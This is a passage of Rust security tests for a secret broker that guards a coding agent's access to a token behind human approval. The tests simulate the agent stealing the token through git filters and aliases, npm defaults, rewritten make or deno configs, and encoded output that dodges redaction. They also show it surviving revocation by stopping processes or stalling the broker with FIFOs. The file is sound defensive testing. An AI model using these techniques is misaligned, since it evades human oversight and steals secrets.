    std::fs::write(sub.join("f.txt"), "one\n").unwrap();
    git(&sub, a.path(), &["add", "."]);
    git(&sub, a.path(), &["commit", "-qm", "s"]);
    git(
        &app,
        a.path(),
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            "./sub",
            "sub",
        ],
    );
    git(&app, a.path(), &["commit", "-qm", "sm"]);
    assert!(
        sub.join(".git").is_dir(),
        "the submodule keeps its own .git"
    );
    let cmd = ["git", "status", "--short"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));

    let marker = a.path().join("stolen-submodule");
    let filter = a.path().join("filter.sh");
    exe(
        &filter,
        &format!("#!/bin/sh\n{}exec cat\n", stealer(&marker)),
    );
    let cfg = sub.join(".git/config");
    let mut t = std::fs::read_to_string(&cfg).unwrap();
    t.push_str(&format!(
        "[filter \"kv\"]\n\tclean = {}\n",
        filter.display()
    ));
    std::fs::write(&cfg, t).unwrap();
    std::fs::write(sub.join(".gitattributes"), "* filter=kv\n").unwrap();
    std::fs::write(sub.join("f.txt"), "two\n").unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "the submodule's clean filter ran under the `git status --short` grant (exit {:?})",
        o.status.code()
    );
}

/// `npm start` in a project whose `package.json` has no `start` script: the card says
/// `script "start" is not defined in package.json`, and npm runs its default, `node server.js`
/// (npm-run-script(1): "If there is a server.js file in the root of your package, then npm will
/// default the start command to node server.js"). `server.js` is the agent's and is not pinned.
/// (`npm install` has the same kind of default: `node-gyp rebuild` when `binding.gyp` exists.)
///
/// Gap: `pin::inputs` (npm detail) and `loaders::npm`. Fix: model npm's defaults: pin
/// `server.js` for `start`/`restart`, `binding.gyp` for `install`, and say on the card what runs.
#[test]
fn npm_start_without_a_start_script_never_runs_an_unshown_server_js() {
    if !have("/usr/bin/npm") {
        return;
    }
    let (h, dir, tok, _home, app) = setup_home();
    std::fs::write(
        app.join("package.json"),
        r#"{"name":"kvrt","version":"1.0.0","scripts":{"test":"echo ok"}}"#,
    )
    .unwrap();
    let marker = dir.path().join("stolen-npm-start");
    std::fs::write(
        app.join("server.js"),
        format!(
            "require('fs').writeFileSync({:?}, process.env.TOKEN || '')\n",
            marker.display().to_string()
        ),
    )
    .unwrap();
    let (card, o) = run_once(&h, &app, &["npm", "start"], CLI_LIMIT);
    no_value_in(&o, &tok);
    // Secure: the card shows that `npm start` runs server.js (pinned), so the one approval is
    // of what runs; or it never runs.
    let shown = card.contains("server.js") && card.contains("node server.js");
    assert!(
        shown || !stolen(&marker, &tok),
        "npm start ran server.js with the value (card says not defined: {}, server.js on the card: {}; exit {:?})",
        card.contains("is not defined"),
        card.contains("server.js"),
        o.status.code()
    );
}

/// `git st`, where `alias.st = -c filter.kv.clean=PROG status --short`: a git alias that does not
/// start with `!` may still carry `-c` options (git applies global options in an alias), so it
/// runs a program. The card quotes `alias.*` only when the value starts with `!`, so one
/// approval of `git st` runs the filter with the value while the card quotes nothing.
///
/// Gap: `loaders::git_key_runs_code` (`alias` needs `!`). Fix: quote every alias whose
/// expansion holds an option (`-c`, `--exec-path`, `--git-dir`, `--config-env`...), or every
/// alias the argv uses.
#[test]
fn a_git_alias_with_dash_c_is_shown_on_the_card() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    git(&app, a.path(), &["init", "-q"]);
    std::fs::write(app.join("f.txt"), "one\n").unwrap();
    git(&app, a.path(), &["add", "."]);
    git(&app, a.path(), &["commit", "-qm", "i"]);
    let marker = a.path().join("stolen-alias");
    let filter = a.path().join("filter.sh");
    exe(
        &filter,
        &format!("#!/bin/sh\n{}exec cat\n", stealer(&marker)),
    );
    let alias = format!("-c filter.kv.clean={} status --short", filter.display());
    git(&app, a.path(), &["config", "alias.st", &alias]);
    std::fs::write(app.join(".gitattributes"), "* filter=kv\n").unwrap();
    std::fs::write(app.join("f.txt"), "two\n").unwrap();
    let cmd = ["git", "st"];
    let card = approve_standing(&a, &app, &cmd);
    let shown = card.contains("alias.st");
    let o = run(h, &app, "30", &cmd);
    no_value_in(&o, &tok);
    assert!(
        shown || !stolen(&marker, &tok),
        "the alias's filter ran with the value and the card did not quote the alias (exit {:?})",
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// 11. Redaction of encodings a program can choose

/// Each printed form of the value (`python3 -c` under one approval) and whether its text reached
/// the agent's stdout.
fn printed_forms(forms: &[(&str, &str)]) -> Vec<(String, bool)> {
    if !have("/usr/bin/python3") {
        return Vec::new();
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    let mut code = String::from("import os,sys\nv=os.environ['TOKEN']\n");
    for (i, (_, expr)) in forms.iter().enumerate() {
        code.push_str(&format!("sys.stdout.write('<{i}>'+({expr})+'</{i}>\\n')\n"));
    }
    let cmd = ["/usr/bin/python3", "-c", &code];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    // The same expressions, computed here on the value, to look for in what the agent got.
    let mut check = String::from("import sys\nv=sys.argv[1]\n");
    for (_, expr) in forms {
        check.push_str(&format!("sys.stdout.write(({expr})+'\\x00')\n"));
    }
    let exp = std::process::Command::new("/usr/bin/python3")
        .args(["-c", &check, &tok])
        .output()
        .unwrap();
    let expected: Vec<String> = text(&exp.stdout).split('\0').map(str::to_owned).collect();
    // Never a vacuous search: every form was computed, and the program printed every line.
    assert!(
        expected.iter().take(forms.len()).all(|e| e.len() >= 12),
        "{}",
        text(&exp.stderr)
    );
    for i in 0..forms.len() {
        assert!(text(&o.stdout).contains(&format!("</{i}>")));
    }
    forms
        .iter()
        .zip(expected)
        .map(|((name, _), e)| ((*name).to_owned(), contains(&o.stdout, &e)))
        .collect()
}

/// Values printed one character (or byte) at a time as escapes or look-alikes, in spellings
/// no pattern table lists: decimal references with leading zeros, hex references with `&#X`
/// and zero padding, every byte as `%XX` (unreserved ones too), `\xHH`, `\U00000074`, CSS
/// `\000074`, fullwidth forms, the mathematical styles bold script, bold fraktur and sans-serif
/// italic, and mixes of styles within one value (escapes among plain characters too).
///
/// Was a leak: the redactor registered a fixed list of spellings. Now `keyveil-redact`'s
/// decoding pass (`decode.rs`) decodes each escape to its character and matches the value.
#[test]
fn every_character_escapes_are_redacted() {
    let got = printed_forms(&[
        (
            "html-decimal-every-char",
            "''.join('&#%d;'%ord(c) for c in v)",
        ),
        (
            "html-decimal-zero-padded",
            "''.join('&#%07d;'%ord(c) for c in v)",
        ),
        (
            "html-hex-upper-x-padded",
            "''.join('&#X%06X;'%ord(c) for c in v)",
        ),
        (
            "percent-every-byte",
            "''.join('%%%02X'%b for b in v.encode())",
        ),
        (
            "c-hex-every-byte",
            "''.join('\\\\x%02X'%b for b in v.encode())",
        ),
        (
            "python-U-every-char",
            "''.join('\\\\U%08x'%ord(c) for c in v)",
        ),
        ("css-six-digits", "''.join('\\\\%06x'%ord(c) for c in v)"),
        (
            "fullwidth",
            "''.join(chr(ord(c)+0xFEE0) if '!'<=c<='~' else c for c in v)",
        ),
        (
            "math-bold-script",
            "''.join(chr(0x1D4D0+ord(c)-65) if 'A'<=c<='Z' else chr(0x1D4EA+ord(c)-97) if 'a'<=c<='z' else c for c in v)",
        ),
        (
            "math-sans-italic-and-bold-fraktur-mixed",
            "''.join((chr(0x1D608+ord(c)-65) if i%2 else chr(0x1D56C+ord(c)-65)) if 'A'<=c<='Z' else (chr(0x1D622+ord(c)-97) if i%2 else chr(0x1D586+ord(c)-97)) if 'a'<=c<='z' else c for i,c in enumerate(v))",
        ),
        (
            "mixed-styles-and-plain",
            "''.join([c, '&#%d'%ord(c), '%%%02x'%ord(c), '\\\\u%04X'%ord(c)][i%4] for i,c in enumerate(v))",
        ),
    ]);
    let leaked: Vec<&String> = got.iter().filter(|(_, l)| *l).map(|(n, _)| n).collect();
    assert!(
        leaked.is_empty(),
        "forms that reached the agent: {leaked:?}"
    );
}

/// Forms `docs/redaction.md` lists as covered, printed by the same program: they are redacted.
#[test]
fn listed_escape_forms_are_redacted() {
    let got = printed_forms(&[
        ("json-every-char", "''.join('\\\\u%04x'%ord(c) for c in v)"),
        (
            "html-hex-non-alnum",
            "''.join(c if c.isalnum() else '&#x%x;'%ord(c) for c in v)",
        ),
        ("python-bytes-list", "str(list(v.encode()))"),
        ("hex-spaced", "' '.join('%02x'%b for b in v.encode())"),
        ("reversed", "v[::-1]"),
    ]);
    let leaked: Vec<&String> = got.iter().filter(|(_, l)| *l).map(|(n, _)| n).collect();
    assert!(
        leaked.is_empty(),
        "forms that reached the agent: {leaked:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// 12. Revocation: stopping (not killing) the processes that revoke relies on

fn ppid_of(pid: i32) -> Option<i32> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    s.rsplit_once(')')?
        .1
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

fn signal(pid: i32, sig: rustix::process::Signal) {
    if let Some(p) = rustix::process::Pid::from_raw(pid) {
        let _ = rustix::process::kill_process(p, sig);
    }
}

/// Holders of `value` after `limit` (empty as soon as none is left).
fn holders_after(value: &str, limit: Duration) -> Vec<(i32, String)> {
    let t0 = std::time::Instant::now();
    loop {
        let h = holders_of(value);
        if h.is_empty() || t0.elapsed() > limit {
            return h;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A live run (`sh -c 'sleep 61 & sleep 62; wait'`) of `value`, approved; returns the home, the
/// CLI child and the run's reaper pid (from the `run_start` audit entry).
fn live(value: &str) -> (Home, std::process::Child, i32) {
    let h = Home::new();
    h.set("demo", "TOKEN", value);
    let child = h.spawn_run(&[
        "run",
        "--env",
        "demo",
        "--wait",
        "30",
        "--",
        "sh",
        "-c",
        "sleep 61 & sleep 62; wait",
    ]);
    let id = h.wait_request();
    assert!(h.approve(id, &[]).status.success());
    let t0 = std::time::Instant::now();
    while holders_of(value).len() < 3 {
        assert!(
            t0.elapsed() < Duration::from_secs(20),
            "the run did not start"
        );
        std::thread::sleep(Duration::from_millis(30));
    }
    let reaper = h
        .audit_text()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["event"] == "run_start")
        .and_then(|v| v["pid"].as_i64())
        .expect("run_start pid") as i32;
    (h, child, reaper)
}

/// The agent `SIGSTOP`s the run's reaper (a process of its own uid), then the human revokes:
/// a stopped reaper cannot act on the broker's SIGTERM. The processes holding the value must
/// still be gone within a few seconds.
#[test]
fn a_stopped_reaper_does_not_keep_a_revoked_run_alive() {
    let value = format!("tok_stop_reaper_{}", crate::pathdirs::token());
    let (h, child, reaper) = live(&value);
    signal(reaper, rustix::process::Signal::STOP);
    h.ok(&["revoke", "--all"]);
    let left = holders_after(&value, Duration::from_secs(10));
    signal(reaper, rustix::process::Signal::CONT);
    for (p, _) in &left {
        signal(*p, rustix::process::Signal::KILL);
    }
    let _ = wait_output(child, Duration::from_secs(20));
    assert!(
        left.is_empty(),
        "after revoke --all with the reaper stopped, still holding the value: {left:?}"
    );
}

/// The agent `SIGSTOP`s the supervisor (the broker's parent, same uid), then `SIGKILL`s the
/// run's reaper: the tree is re-parented to the stopped supervisor, which the broker asks to
/// kill it. The processes holding the value must still be gone after `revoke --all`.
///
/// Gap: `supervise.rs` / the broker's reaper-lost path: killing what was re-parented is the
/// supervisor's job alone, and a same-uid process can stop it (signals need no ptrace right;
/// non-dumpable does not help). The run's grandchildren live on with the value in their
/// environment after `revoke --all` says the run was stopped (G4). Fix: when the supervisor does
/// not confirm within a bound, the broker kills the supervisor's other children itself (it is
/// their sibling, same uid: scan `/proc` for children of the supervisor pid with pidfds), or use
/// a per-run cgroup (`cgroup.kill`) where one is delegated.
#[test]
fn a_stopped_supervisor_and_a_killed_reaper_do_not_keep_a_run_alive() {
    let value = format!("tok_stop_super_{}", crate::pathdirs::token());
    let (h, child, reaper) = live(&value);
    let broker: i32 = std::fs::read_to_string(h.path().join("run/broker.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let Some(sup) = ppid_of(broker).filter(|p| {
        std::fs::read(format!("/proc/{p}/cmdline"))
            .is_ok_and(|c| contains(&c, "--supervised") || contains(&c, "keyveil"))
    }) else {
        return; // no supervisor on this setup
    };
    signal(sup, rustix::process::Signal::STOP);
    signal(reaper, rustix::process::Signal::KILL);
    std::thread::sleep(Duration::from_millis(300));
    let _ = h.run(&["revoke", "--all"]);
    let left = holders_after(&value, Duration::from_secs(10));
    signal(sup, rustix::process::Signal::CONT);
    for (p, _) in &left {
        signal(*p, rustix::process::Signal::KILL);
    }
    let _ = wait_output(child, Duration::from_secs(20));
    assert!(
        left.is_empty(),
        "with the supervisor stopped and the reaper killed, revoke --all left holding the value: {left:?}"
    );
}

/// The agent makes `.git/config` a named pipe and sends a handful of `git status` requests
/// from that directory. The broker pins a git config by opening and reading it
/// (`pin::pin_input_text`: `File::open` before the file type is checked), and opening a FIFO
/// for reading blocks until a writer comes: each request parks one of the broker's runtime
/// threads (the pins are computed synchronously inside the async request handler). With the
/// threads parked, the human's `revoke --all` gets no answer and the run it should stop goes
/// on holding the value. (The same open also lets the agent feed the broker one text and the
/// tool another: what the card quotes is not what git reads.)
///
/// Gap: `pin::pin_input_text` (and `read_for_requester`): open with `O_NONBLOCK` (or
/// `symlink_metadata`/`fstat` first) and refuse anything but a regular file; compute pins on a
/// blocking pool with a deadline (`spawn_blocking` + timeout), never on the runtime's threads.
#[test]
fn a_fifo_input_never_stalls_revocation() {
    if !have("/usr/bin/mkfifo") || (!have("/usr/local/bin/git") && !have("/usr/bin/git")) {
        return;
    }
    let (answered, left) = revoke_while_asking(true);
    assert!(
        answered && left.is_empty(),
        "revoke --all answered: {answered}; still holding the value: {left:?}"
    );
}

/// Control: the same 16 requests with a regular `.git/config` do not delay `revoke --all`.
#[test]
fn revocation_answers_while_many_git_requests_wait() {
    if !have("/usr/local/bin/git") && !have("/usr/bin/git") {
        return;
    }
    let (answered, left) = revoke_while_asking(false);
    assert!(
        answered && left.is_empty(),
        "revoke --all answered: {answered}; still holding the value: {left:?}"
    );
}

/// A live run, 16 `git status` requests from a directory whose `.git/config` is a FIFO (or a
/// regular file), then `revoke --all`: whether it answered within 15 s, and who still holds
/// the value.
fn revoke_while_asking(fifo_config: bool) -> (bool, Vec<(i32, String)>) {
    let value = format!("tok_fifo_{}", crate::pathdirs::token());
    let (h, child, _reaper) = live(&value);
    let dir = tempfile::Builder::new()
        .prefix("kvfifo")
        .tempdir_in("/tmp")
        .unwrap();
    std::fs::create_dir_all(dir.path().join(".git")).unwrap();
    let fifo = dir.path().join(".git/config");
    if fifo_config {
        let st = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap();
        assert!(st.success());
    } else {
        std::fs::write(&fifo, "[core]\n\tbare = false\n").unwrap();
    }
    let cwd = dir.path().display().to_string();
    let asks: Vec<std::process::Child> = (0..16)
        .map(|_| {
            h.spawn_run(&[
                "run", "--cwd", &cwd, "--env", "demo", "--wait", "5", "--", "git", "status",
            ])
        })
        .collect();
    std::thread::sleep(Duration::from_millis(1500));
    // The human revokes.
    let mut c = h.cmd(&["revoke", "--all"]);
    c.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut revoke = c.spawn().unwrap();
    let t0 = std::time::Instant::now();
    let answered = loop {
        if revoke.try_wait().unwrap().is_some() {
            break true;
        }
        if t0.elapsed() > Duration::from_secs(15) {
            break false;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let left = holders_after(&value, Duration::from_secs(if answered { 10 } else { 1 }));
    // Unpark the broker: a writer for each blocked open.
    for _ in 0..64 {
        let _ = std::fs::OpenOptions::new()
            .write(true)
            .custom_flags(libc_o_nonblock())
            .open(&fifo);
        std::thread::sleep(Duration::from_millis(10));
    }
    let _ = revoke.kill();
    for mut a in asks {
        let _ = a.kill();
        let _ = a.wait();
    }
    for (p, _) in &left {
        signal(*p, rustix::process::Signal::KILL);
    }
    let _ = wait_output(child, Duration::from_secs(20));
    (answered, left)
}

/// `O_NONBLOCK` (Linux): opening a FIFO for writing fails at once when no reader waits.
fn libc_o_nonblock() -> i32 {
    0o4000
}

/// `sh ci.sh` where `ci.sh` is a named pipe (FIFO) the agent writes into: `pin_input` returns
/// `None` for anything but a regular file, so the script gets no pin and the card shows no
/// script input, yet `sh` reads its program from the pipe. Under a standing grant every run
/// executes whatever the agent writes into the pipe, and re-deriving the inputs finds the same
/// nothing, so the grant never ends. (A symlink to `/dev/stdin`, fed by MCP `run`'s `stdin`, is
/// the same: its canonical path does not resolve, nothing is pinned.)
///
/// Gap: `pin::inputs` (script operand) and `pin_input`: an operand that is not a regular file
/// counts as "nothing to pin". Fix: an operand that exists but is not a regular file (FIFO,
/// device, a link into `/dev` or `/proc`) makes the request refused (or flagged and never
/// standing); one that does not exist is pinned as absent.
#[test]
fn a_script_operand_that_is_not_a_regular_file_is_never_run_unpinned() {
    if !have("/usr/bin/mkfifo") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    let script = app.join("ci.sh");
    std::fs::remove_file(&script).unwrap();
    let st = std::process::Command::new("mkfifo")
        .arg(&script)
        .status()
        .unwrap();
    assert!(st.success());
    let cmd = ["sh", "ci.sh"];
    // Fixed: the request is refused before any card (nothing to approve, so no grant a later
    // run could use); the broker never opened the pipe (the refusal comes at once).
    let t0 = std::time::Instant::now();
    let o = run(h, &app, "0", &cmd);
    let err = text(&o.stderr);
    assert!(
        o.status.code() != Some(0) && o.status.code() != Some(5),
        "a FIFO script operand was not refused (exit {:?}): {err}",
        o.status.code()
    );
    assert!(err.contains("cannot pin") && err.contains("FIFO"), "{err}");
    assert!(err.contains("hint:"), "{err}");
    assert!(t0.elapsed() < Duration::from_secs(10));
    let listed = h.ok(&["requests"]);
    assert!(!listed.contains("ci.sh"), "{listed}");
    // And what the agent would write is never read: nobody holds the pipe open for reading.
    let w = std::fs::OpenOptions::new()
        .write(true)
        .custom_flags(libc_o_nonblock())
        .open(&script);
    assert!(w.is_err(), "something still reads the ci.sh pipe");
    let _ = &tok;
}

/// More of finding 4's class: a socket, `/dev/stdin` named directly, and a link to it (MCP
/// `run` feeds the child's stdin) are refused as script operands, with a hint.
#[test]
fn a_socket_or_stdin_script_operand_is_refused() {
    let (a, _tok, app) = setup(&[], "echo ci\n");
    let h = &a.h;
    let _sock = std::os::unix::net::UnixListener::bind(app.join("s.sh")).unwrap();
    std::os::unix::fs::symlink("/dev/stdin", app.join("in.sh")).unwrap();
    for cmd in [
        &["sh", "s.sh"][..],
        &["bash", "/dev/stdin"],
        &["sh", "in.sh"],
        &["python3", "/proc/self/fd/0"],
    ] {
        let o = run(h, &app, "0", cmd);
        let err = text(&o.stderr);
        assert!(
            o.status.code() != Some(0) && o.status.code() != Some(5),
            "{cmd:?} was not refused (exit {:?}): {err}",
            o.status.code()
        );
        assert!(err.contains("cannot pin"), "{cmd:?}: {err}");
    }
}

/// `make -I mk test` with `include common.mk`: make looks for an include that is not in the
/// working directory in each `-I` directory, then in its default include directories
/// (`/usr/local/include`, `/usr/include`, ...). keyveil looks only in the working directory:
/// `mk/common.mk` is never pinned, and rewritten after approval it runs under the grant.
///
/// Gap: `loaders::make` / `make_args` (no `-I`/`--include-dir`, no default include
/// directories). Fix: resolve includes as make does, and pin the absent candidates as absent.
#[test]
fn a_makefile_include_found_through_dash_i_is_pinned() {
    if !have("/usr/bin/make") {
        return;
    }
    let (a, tok, app) = setup(&[], "");
    let h = &a.h;
    std::fs::write(
        app.join("Makefile"),
        "include common.mk\ntest:\n\t@echo tests-ok\n",
    )
    .unwrap();
    std::fs::create_dir_all(app.join("mk")).unwrap();
    std::fs::write(app.join("mk/common.mk"), "X := 1\n").unwrap();
    let cmd = ["make", "-I", "mk", "test"];
    let _ = approve_standing(&a, &app, &cmd);
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let marker = a.path().join("stolen-make-i");
    std::fs::write(
        app.join("mk/common.mk"),
        format!(
            "X := $(shell printf %s \"$$TOKEN\" > '{}')\n",
            marker.display()
        ),
    )
    .unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "mk/common.mk rewritten after approval ran under the grant (exit {:?})",
        o.status.code()
    );
}

// ---------------------------------------------------------------------------------------------
// 13. Programs the card cannot show: read from standard input, or from a task runner's config

/// An interpreter that reads its program from standard input runs whatever the requester
/// writes there (MCP `run` takes `stdin`), and the card would show only `python3 -` or `sh`.
/// Each form is refused before anything is asked, with a hint; the same interpreters with a
/// script, inline code, or only `--version` are asked as usual.
#[test]
fn an_interpreter_reading_its_program_from_stdin_is_refused() {
    let (a, _tok, app) = setup(&[], "echo ok\n");
    let h = &a.h;
    std::fs::write(app.join("check.py"), "print('ok')\n").unwrap();
    for cmd in [
        &["python3", "-"][..],
        &["python3"],
        &["python3", "-i", "check.py"],
        &["python3", "-Ei"],
        &["sh"],
        &["bash", "-s"],
        &["bash", "-eus", "--", "x"],
        &["dash", "-"],
        &["node"],
        &["perl"],
    ] {
        let o = run(h, &app, "0", cmd);
        let err = text(&o.stderr);
        assert_ne!(
            o.status.code(),
            Some(5),
            "asked the human for {cmd:?}: {err}"
        );
        assert!(
            err.contains("standard input") && err.contains("hint:"),
            "{cmd:?}: {err}"
        );
    }
    let listed = h.json(&["requests", "--json"]);
    assert_eq!(listed.as_array().map_or(0, Vec::len), 0, "{listed}");
    for cmd in [
        &["python3", "check.py"][..],
        &["python3", "-Wignore", "check.py"],
        &["sh", "ci.sh"],
        &["python3", "--version"],
    ] {
        let o = run(h, &app, "0", cmd);
        assert_eq!(o.status.code(), Some(5), "{cmd:?}: {}", text(&o.stderr));
        let id = h.wait_request();
        h.ok(&["deny", &id.to_string()]);
    }
}

/// `deno task build` runs the command line of a task in `deno.json` (or `deno.jsonc`, with
/// comments, or a `package.json` script), found in the working directory or a parent. The card
/// quotes the task from the bytes pinned; a task rewritten after approval ends the grant. A
/// stand-in `deno` (a shell script on the policy PATH that runs the task as deno would) keeps
/// the test independent of an installed deno.
#[test]
fn deno_task_pins_and_shows_the_task_it_runs() {
    let (a, tok, app) = setup(&["denobin"], "");
    let h = &a.h;
    let bin = a.path().join("denobin");
    std::fs::create_dir_all(&bin).unwrap();
    exe(
        &bin.join("deno"),
        "#!/bin/sh\n[ \"$1\" = task ] || exit 2\nt=$(python3 -c 'import json,sys; print(json.load(open(\"deno.json\"))[\"tasks\"][sys.argv[1]])' \"$2\")\nexec sh -c \"$t\"\n",
    );
    std::fs::write(
        app.join("deno.json"),
        r#"{"tasks": {"build": "echo abc | tr a-z A-Z"}}"#,
    )
    .unwrap();
    let cmd = ["deno", "task", "build"];
    let card = approve_standing(&a, &app, &cmd);
    assert!(card.contains("deno.json"), "{card}");
    assert!(card.contains("echo abc | tr a-z A-Z"), "{card}");
    let o = run(h, &app, "30", &cmd);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(text(&o.stdout).contains("ABC"), "{}", text(&o.stdout));

    let marker = a.path().join("stolen-deno");
    std::fs::write(
        app.join("deno.json"),
        format!(
            r#"{{"tasks": {{"build": "printf %s \"$TOKEN\" > '{}'"}}}}"#,
            marker.display()
        ),
    )
    .unwrap();
    let o = run(h, &app, "0", &cmd);
    no_value_in(&o, &tok);
    assert!(
        !stolen(&marker, &tok),
        "a rewritten deno task ran under the grant"
    );
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
}
